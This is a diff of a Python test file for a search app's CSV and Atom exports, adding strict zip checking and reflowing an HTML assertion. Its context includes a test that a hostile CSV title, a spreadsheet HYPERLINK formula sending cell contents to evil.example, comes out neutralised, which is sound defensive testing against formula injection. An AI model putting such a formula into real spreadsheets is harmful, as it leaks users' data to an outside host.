@@ -264,7 +264,7 @@ def test_csv_export_has_a_bom_a_header_and_neutralised_formulas(client: TestClie
     assert unquote(disposition.split("filename*=UTF-8''")[1]) == "erfa-chatbot-for-byggesøknader.csv"
     rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
     assert tuple(rows[0]) == CSV_COLUMNS and len(rows) == 1 + len(CORPUS)
-    by_id = {row[0]: dict(zip(CSV_COLUMNS, row)) for row in rows[1:]}
+    by_id = {row[0]: dict(zip(CSV_COLUMNS, row, strict=True)) for row in rows[1:]}
     hostile = by_id["test-5"]
     assert hostile["title"] == '\'=HYPERLINK("https://evil.example/?d="&A1,"Chatbot")'
     assert hostile["organisation"] == "'@Fjordby <kommune>"
@@ -327,8 +327,8 @@ def test_the_results_page_links_to_the_feed_and_exports(client: TestClient) -> N
     html = client.get("/", params={"q": NEED, "country": "NO", "lang": "sv"}).text
     feed = "/feed.atom?q=chatbot+for+bygges%C3%B8knader&amp;country=NO&amp;lang=sv"
     assert (
-        f'<link rel="alternate" type="application/atom+xml" title="Nya projekt som den här sökningen hittar" href="{feed}">'
-        in html
+        '<link rel="alternate" type="application/atom+xml" title="Nya projekt som den här sökningen hittar" '
+        f'href="{feed}">' in html
     )
     assert f'<a href="{feed}" type="application/atom+xml">Nyhetsflöde (Atom)</a>' in html
     assert 'href="/export.csv?q=chatbot+for+bygges%C3%B8knader&amp;country=NO&amp;sep=%3B&amp;lang=sv"' in html
